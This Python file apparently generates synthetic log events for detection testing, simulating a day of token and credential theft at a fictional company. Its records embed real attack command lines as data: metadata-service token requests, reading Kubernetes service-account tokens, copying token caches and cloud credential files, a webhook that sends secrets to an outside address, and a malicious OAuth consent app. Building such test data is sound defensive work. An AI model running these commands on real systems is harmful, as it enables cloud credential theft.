"""attacks.py - somebody collects tokens at acme, all day: the attacks that the five documents of this project describe.

    09:15 to 10:10  endpoints: metadata services, service-account tokens, token caches, told by every kind of agent
    10:30 to 11:40  the cluster: a token read through exec, used from outside; secrets denied, enumerated, dumped
    12:05           an instance's role, used from elsewhere
    13:20 to 14:30  an application registered, consented to by users, reading their mail
    15:05 to 16:10  Google Workspace, GitHub, Slack: grants and tokens that are used by somebody else
    16:30           keys of service accounts, administrators' credentials of clusters
"""
from ordinary import OFFICE_ADDRESS, PEOPLE, SYS, mail
from shapes import (HOUR, MINUTE, SECOND, R, audit, auditd_path, azure_activity, cloudtrail, defender, endpoint, entra_audit,
                    entra_signin, evtx, falcon, gcp, github, instance_role, linux_process, m365, okta, process, slack, sysmon,
                    sysmon_linux, winlogbeat, workspace)

POWERSHELL = SYS + "WindowsPowerShell\\v1.0\\powershell.exe"
IMDS = "169.254.169.254"
AZURE_TOKEN = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"
OUTSIDE, FAR = "203.0.113.77", "203.0.113.140"


def metadata_services(day, t):
    for i in range(3):
        process(day, t + i * 41 * SECOND, "az-vm-7", POWERSHELL,
                "powershell -nop -c \"irm -Headers @{Metadata='true'} '%s'\"" % AZURE_TOKEN, SYS + "cmd.exe", "ACME\\svc-build")
    winlogbeat(day, t + 9 * SECOND, "az-vm-7", 4104, "Microsoft-Windows-PowerShell",
               "Microsoft-Windows-PowerShell/Operational",
               ScriptBlockText="$t = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/"
               "identity/oauth2/token?resource=https://vault.azure.net'; $t.access_token", Path="")
    sysmon(day, t + 9500, "az-vm-7", 3, Image=POWERSHELL, User="ACME\\svc-build", Protocol="tcp", Initiated="true",
           SourceIp="10.30.0.7", SourcePort="51514", DestinationIp=IMDS, DestinationPort="80")
    process(day, t + 5 * MINUTE, "ec2-win-2", SYS + "curl.exe",
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", SYS + "cmd.exe",
            "EC2-WIN-2\\deploy", evtx)
    process(day, t + 6 * MINUTE, "gce-win-1", SYS + "curl.exe",
            "curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/"
            "default/token", SYS + "cmd.exe", "GCE-WIN-1\\deploy", winlogbeat)
    for i in range(4):
        linux_process(day, t + 10 * MINUTE + i * 20 * SECOND, "ec2-19", "/usr/bin/curl",
                      "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role", "/usr/bin/bash",
                      "www-data")
    sysmon_linux(day, t + 11 * MINUTE, "ec2-19", 3, Image="/dev/shm/.x/kt", User="www-data", Protocol="tcp",
                 SourceIp="10.40.0.19", SourcePort=40112, DestinationIp=IMDS, DestinationPort=80)
    # The same, seen by other agents.
    endpoint(day, t + 12 * MINUTE, "app-01", "network", "http_request", "python3", "/usr/bin/python3", user="app",
             destination={"ip": IMDS, "port": 80},
             url={"full": "http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role"})
    falcon(day, t + 13 * MINUTE, "lt-3302.acme.example", "NetworkConnectIP4",
           "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", user="dave",
           RemoteAddressIP4=IMDS, RemotePort="80", LocalAddressIP4="10.20.0.32",
           ContextBaseFileName="powershell.exe")
    defender(day, t + 14 * MINUTE, "lt-3303.acme.example", "DeviceNetworkEvents", "ConnectionSuccess", POWERSHELL,
             "powershell -nop", "erin", RemoteIP=IMDS, RemotePort=80, RemoteUrl=AZURE_TOKEN, LocalIP="10.20.0.33")


def service_account_tokens(day, t):
    linux_process(day, t, "web-01", "/usr/bin/cat", "cat " + TOKEN_PATH, "/usr/bin/sh", "www-data")
    linux_process(day, t + 5 * SECOND, "node-3", "/usr/bin/find",
                  "find /var/lib/kubelet/pods/3f1c77d2-0a4e-4a53-9a86-5b1f60c7f1aa/volumes/kubernetes.io~projected/"
                  "kube-api-access-x7l/token -exec cat {} ;", "/usr/bin/bash", "root")
    auditd_path(day, t + 6 * SECOND, "node-3", "/run/secrets/kubernetes.io/serviceaccount/token", "/usr/bin/cat")
    endpoint(day, t + 8 * SECOND, "app-02", "file", "open", "cat", "/usr/bin/cat", user="app",
             file={"path": TOKEN_PATH, "name": "token"})
    falcon(day, t + 9 * SECOND, "app-09", "FileOpenInfo", "/usr/bin/cat", "Lin", "app", TargetFileName=TOKEN_PATH,
           ContextBaseFileName="cat")


def token_caches(day, t):
    host = "lt-3301.acme.example"
    process(day, t, host, SYS + "cmd.exe",
            "cmd /c copy C:\\Users\\carol\\.azure\\msal_token_cache.bin C:\\Users\\Public\\m.bin", POWERSHELL, "ACME\\carol")
    process(day, t + 10 * SECOND, host, "C:\\Program Files\\7-Zip\\7z.exe",
            "7z a -psecret C:\\Users\\Public\\c.7z C:\\Users\\carol\\.aws\\credentials C:\\Users\\carol\\.kube\\config",
            SYS + "cmd.exe", "ACME\\carol", winlogbeat)
    sysmon(day, t + 15 * SECOND, host, 11, Image=SYS + "cmd.exe", User="ACME\\carol", CreationUtcTime=day.stamp(t, " ", ""),
           TargetFilename="C:\\Users\\Public\\msal_token_cache.bin")
    day.add(t + 20 * SECOND, {"SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "Hostname": host,
                              "TimeCreated": day.stamp(t + 20 * SECOND), "@timestamp": day.stamp(t + 20 * SECOND),
                              "EventID": 4663, "SubjectUserName": "carol", "SubjectDomainName": "ACME",
                              "ObjectType": "File", "AccessMask": "0x1", "ProcessName": "C:\\Users\\Public\\t.exe",
                              "ObjectName": "C:\\Users\\carol\\AppData\\Local\\Microsoft\\TokenBroker\\Cache\\a1.tbres"})
    falcon(day, t + 30 * SECOND, "lt-3302.acme.example", "FileOpenInfo",
           "\\Device\\HarddiskVolume3\\Users\\Public\\t.exe", user="dave", ContextBaseFileName="t.exe",
           TargetFileName="\\Device\\HarddiskVolume3\\Users\\dave\\.azure\\msal_token_cache.json")
    defender(day, t + 40 * SECOND, "lt-3303.acme.example", "DeviceFileEvents", "FileCreated", POWERSHELL, "powershell", "erin",
             FileName="msal_token_cache.bin", FolderPath="C:\\Users\\Public\\msal_token_cache.bin")
    linux_process(day, t + 5 * MINUTE, "ci-runner-4", "/usr/bin/cat", "cat /home/ci/.config/gcloud/access_tokens.db",
                  "/usr/bin/bash", "ci")
    linux_process(day, t + 305 * SECOND, "ci-runner-4", "/usr/bin/base64", "base64 /home/ci/.kube/config", "/usr/bin/bash",
                  "ci")


def cluster(day, t):
    stages = ("RequestReceived", "ResponseComplete")
    audit(day, t, "jdoe@acme.example", "create", "pods", "payments", "checkout-api-7c9", "exec", stages=stages,
          query="?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true")
    thief = "system:serviceaccount:payments:checkout-api"
    audit(day, t + 57 * SECOND, thief, "list", "secrets", "payments", agent="curl/8.5.0", address=OUTSIDE, stages=stages)
    # What the account never did, or seldom (before.py): what may it do, what is there, a setting changed.
    for after, verb, resource, group in ((120, "create", "selfsubjectrulesreviews", "authorization.k8s.io"),
                                         (130, "list", "services", ""), (140, "list", "configmaps", ""),
                                         (190, "patch", "configmaps", "")):
        audit(day, t + after * SECOND, thief, verb, resource, "" if group else "payments", "checkout" if verb == "patch" else "",
              agent="curl/8.5.0", address=OUTSIDE, group=group, stages=stages)
    for i in range(16):
        audit(day, t + MINUTE + i * 2500, thief, "get", "secrets", "payments", "customer-key-%02d" % i, agent="curl/8.5.0",
              address=OUTSIDE, stages=stages)
    runner = "system:serviceaccount:ci:runner"  # tries what its role does not allow
    for i in range(24):
        audit(day, t + 20 * MINUTE + i * 15 * SECOND, runner, "get", "secrets", R.choice(["web", "payments", "kube-system"]),
              "db-%02d" % i, agent="python-requests/2.31.0", address="10.60.5.9", code=403)
    for i, namespace in enumerate(["web", "payments", "ci", "monitoring", "vault", "staging"]):
        audit(day, t + 35 * MINUTE + i * 20 * SECOND, "jdoe@acme.example", "list", "secrets", namespace)
    audit(day, t + 45 * MINUTE, "jdoe@acme.example", "create", "serviceaccounts", "kube-system", "clusterrole-aggregator",
          "token")
    audit(day, t + 47 * MINUTE, "jdoe@acme.example", "create", "clusterrolebindings", "", "debug",
          group="rbac.authorization.k8s.io",
          requestObject={"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                         "subjects": [{"kind": "ServiceAccount", "name": "runner", "namespace": "ci"}]})
    audit(day, t + 55 * MINUTE, runner, "create", "mutatingwebhookconfigurations", "", "sidecar",
          group="admissionregistration.k8s.io", agent="curl/8.5.0", address="10.60.5.9",
          requestObject={"webhooks": [{"name": "s.example", "clientConfig": {"url": "https://203.0.113.77/m"},
                                       "rules": [{"resources": ["secrets"], "operations": ["CREATE"]}]}]})


def instance_role_elsewhere(day, t):
    """The credentials that the instance had at that hour, in other hands."""
    who = instance_role("i-0a1b2c3d4e5f60718", "ASIAEXAMPLE%09d" % (t // (6 * HOUR)))
    agent = "aws-cli/2.13.0 Python/3.11.4 Linux/6.1-kali"
    for i, (name, source) in enumerate((("GetCallerIdentity", "sts"), ("ListBuckets", "s3"), ("ListUsers", "iam"),
                                        ("ListSecrets", "secretsmanager"), ("DescribeInstances", "ec2"))):
        cloudtrail(day, t + i * 8 * SECOND, name, source, who, OUTSIDE, agent)
    for i in range(12):
        cloudtrail(day, t + 2 * MINUTE + i * 3 * SECOND, "GetSecretValue", "secretsmanager", who, OUTSIDE, agent,
                   secretId="prod/db-%02d" % i)


def consent(day, t):
    """An application, those who fall for it, and what it reads."""
    application, name = "5b1e7a10-0000-4000-8000-000000000001", "Invoice Helper"
    entra_signin(day, t - 10 * MINUTE, mail("frank"), "Microsoft Azure CLI", OUTSIDE, "deviceCode")
    entra_audit(day, t, "Add application", mail("frank"), OUTSIDE, name, "Application")
    entra_audit(day, t + MINUTE, "Add service principal", mail("frank"), OUTSIDE, name)
    entra_audit(day, t + 2 * MINUTE, "Add service principal credentials", mail("frank"), OUTSIDE, name)
    scopes = "Mail.Read Files.Read.All offline_access"
    for i, who in enumerate(PEOPLE[:4]):
        entra_audit(day, t + (10 + 4 * i) * MINUTE, "Consent to application", mail(who), OFFICE_ADDRESS, name, changes=(
            ("ConsentContext.IsAdminConsent", '"False"'),
            ("ConsentAction.Permissions", "[] => [[Id: a%d, ClientId: c1, PrincipalId: p%d, ResourceId: r1, ConsentType: "
             "Principal, Scope: %s, CreatedDateTime: , LastModifiedDateTime ]]; " % (i, i, scopes))))
        day.add((t + (10 + 4 * i) * MINUTE) + 5 * SECOND, {
            "CreationTime": day.stamp(t + (10 + 4 * i) * MINUTE + 5 * SECOND)[:19], "Id": "consent-%d" % i,
            "Operation": "Consent to application.", "OrganizationId": "org-1", "Workload": "AzureActiveDirectory",
            "RecordType": 8, "ResultStatus": "Success", "UserId": mail(who), "ObjectId": application,
            "ModifiedProperties": [{"Name": "ConsentContext.IsAdminConsent", "NewValue": "False", "OldValue": ""}]})
    entra_signin(day, t + 29 * MINUTE, mail("alice"), name, FAR)
    entra_audit(day, t + 30 * MINUTE, "Add app role assignment to service principal", mail("frank"), OUTSIDE, name, changes=(
        ("AppRole.Value", '"RoleManagement.ReadWrite.Directory"'),))
    for i in range(230):
        m365(day, t + 32 * MINUTE + i * 12 * SECOND, "MailItemsAccessed", mail(PEOPLE[i % 4]), application, FAR)


def grants(day, t):
    workspace(day, t, "token", "authorize", mail("dave"), OFFICE_ADDRESS, app_name="Invoice Helper",
              client_id="1234-abc.apps.googleusercontent.com", client_type="WEB",
              scope=["https://www.googleapis.com/auth/gmail.readonly", "https://www.googleapis.com/auth/drive"])
    for i in range(230):
        workspace(day, t + 10 * MINUTE + i * 4 * SECOND, "token", "activity", mail("dave"), FAR, app_name="Invoice Helper",
                  client_id="1234-abc.apps.googleusercontent.com", client_type="WEB", api_name="gmail",
                  method_name="gmail.users.messages.get")
    for i in range(26):
        github(day, t + 25 * MINUTE + i * 15 * SECOND, "git.clone", "bob", OUTSIDE, "service-%02d" % i,
               token="dG9rZW4tb2YtYm9i")
    app = {"type": "app", "app": {"id": "A1", "name": "Invoice Helper", "is_distributed": True,
                                  "is_directory_approved": False, "scopes": ["files:read", "channels:history"]}}
    slack(day, t + 40 * MINUTE, "app_installed", "erin", OFFICE_ADDRESS, entity=app)
    slack(day, t + 50 * MINUTE, "anomaly", "erin", FAR, "python-requests/2.31.0", reason=["session_fingerprint"])
    for i in range(60):
        slack(day, t + 51 * MINUTE + i * 5 * SECOND, "file_downloaded", "erin", FAR, "python-requests/2.31.0",
              entity={"type": "file", "file": {"id": "F%03d" % i, "name": "plan-%03d.pdf" % i}})


def keys(day, t):
    gcp(day, t, "iam.googleapis.com", "google.iam.admin.v1.CreateServiceAccountKey", mail("frank"),
        "projects/-/serviceAccounts/deploy@acme.iam.gserviceaccount.com", OUTSIDE, "gcloud/500.0 curl")
    gcp(day, t + 4 * MINUTE, "iamcredentials.googleapis.com", "GenerateAccessToken", mail("frank"),
        "projects/-/serviceAccounts/deploy@acme.iam.gserviceaccount.com", OUTSIDE, "gcloud/500.0 curl")
    azure_activity(day, t + 8 * MINUTE, "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/LISTCLUSTERADMINCREDENTIAL/ACTION",
                   mail("frank"), "/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.CONTAINERSERVICE/"
                   "MANAGEDCLUSTERS/PROD", OUTSIDE)
    okta(day, t + 12 * MINUTE, "system.api_token.create", mail("frank"), OUTSIDE,
         target=[{"id": "t1", "type": "Token", "displayName": "sync"}])


def add_all(day):
    metadata_services(day, 9 * HOUR + 15 * MINUTE)
    service_account_tokens(day, 9 * HOUR + 40 * MINUTE)
    token_caches(day, 10 * HOUR)
    cluster(day, 10 * HOUR + 30 * MINUTE)
    instance_role_elsewhere(day, 12 * HOUR + 5 * MINUTE)
    consent(day, 13 * HOUR + 20 * MINUTE)
    grants(day, 15 * HOUR + 5 * MINUTE)
    keys(day, 16 * HOUR + 30 * MINUTE)
